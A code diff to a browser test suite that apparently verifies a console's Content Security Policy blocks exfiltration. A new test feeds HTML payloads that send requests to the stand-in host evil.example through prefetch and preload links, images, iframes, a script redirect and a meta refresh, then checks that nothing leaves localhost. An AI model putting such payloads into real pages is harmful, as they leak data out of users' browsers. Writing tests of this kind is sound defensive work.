@@ -316,7 +316,6 @@ async def test_nothing_else_is_a_script_of_the_console(stage: Stage, tab: Tab) -
     assert told["function"] in ("TypeError", "EvalError")
     assert "evil" not in told or told["evil"] is None
     assert told["base"].startswith(console)
-    assert tab.violations
     assert tab.hosts == {f"localhost:{stage.number}"}
 
 
@@ -398,19 +397,53 @@ async def test_a_link_signs_in_from_its_fragment(stage: Stage, tab: Tab) -> None
     assert (cookie["httpOnly"], cookie["sameSite"], cookie["path"]) == (True, "Strict", "/")
 
 
+SHOW = """(html) => new Promise((resolve) => {
+  const frame = document.createElement("iframe");
+  addEventListener("message", ({source, data}) => {
+    if (source !== frame.contentWindow) return;
+    if (data.ready) source.postMessage({html}, "*");
+    if (data.said) resolve(data.said);
+  });
+  frame.src = "/console/frame";
+  document.body.append(frame);
+})"""
+
+
+@pytest.mark.attack(
+    "edge",
+    "HTML that code without a network has produced carries a message out through the browser of the person who looks: "
+    "by a navigation, a picture, a frame in the frame",
+    "nothing is sent to another host",
+)
+async def test_a_result_carries_nothing_out(stage: Stage, tab: Tab) -> None:
+    await enter(tab, stage.console("localhost"))
+    for result in (
+        """<link rel="prefetch" href="http://evil.example/prefetch"><iframe src="http://evil.example/inner"></iframe>
+        <link rel="preload" as="image" href="http://evil.example/preload"><img src="http://evil.example/picture">
+        <script>parent.postMessage({said: true}, "*")</script>""",
+        "<script>parent.postMessage({said: true}, '*'); location = 'http://evil.example/?message'</script>",
+        """<meta http-equiv="refresh" content="0; url=http://evil.example/">
+        <script>parent.postMessage({said: true}, "*")</script>""",
+    ):
+        async with tab.page.expect_console_message(lambda message: "Content Security Policy" in message.text):
+            await tab.page.evaluate(SHOW, result)
+    assert tab.hosts == {f"localhost:{stage.number}"}
+    assert tab.page.url.startswith(stage.console("localhost"))
+
+
 async def test_a_frame_by_srcdoc_would_run_no_script(stage: Stage, tab: Tab) -> None:
     """It inherits the policy of the console, sandboxed or not. So results have a page of their own."""
     await enter(tab, stage.console("localhost"))
-    ran = await tab.page.evaluate(
-        """() => new Promise((resolve) => {
-          const frame = document.createElement("iframe");
-          addEventListener("message", () => resolve("ran"));
-          frame.sandbox = "allow-scripts";
-          frame.srcdoc = trustedTypes.createPolicy("sandlot", {createHTML: (html) => html})
-            .createHTML("<script>parent.postMessage('ran', '*')</script>");
-          frame.onload = () => resolve("silent");
-          document.body.append(frame);
-        })"""
-    )
+    async with tab.page.expect_console_message(lambda message: "Content Security Policy" in message.text):
+        ran = await tab.page.evaluate(
+            """() => new Promise((resolve) => {
+              const frame = document.createElement("iframe");
+              addEventListener("message", () => resolve("ran"));
+              frame.sandbox = "allow-scripts";
+              frame.srcdoc = trustedTypes.createPolicy("sandlot", {createHTML: (html) => html})
+                .createHTML("<script>parent.postMessage('ran', '*')</script>");
+              frame.onload = () => resolve("silent");
+              document.body.append(frame);
+            })"""
+        )
     assert ran == "silent"
-    assert tab.violations
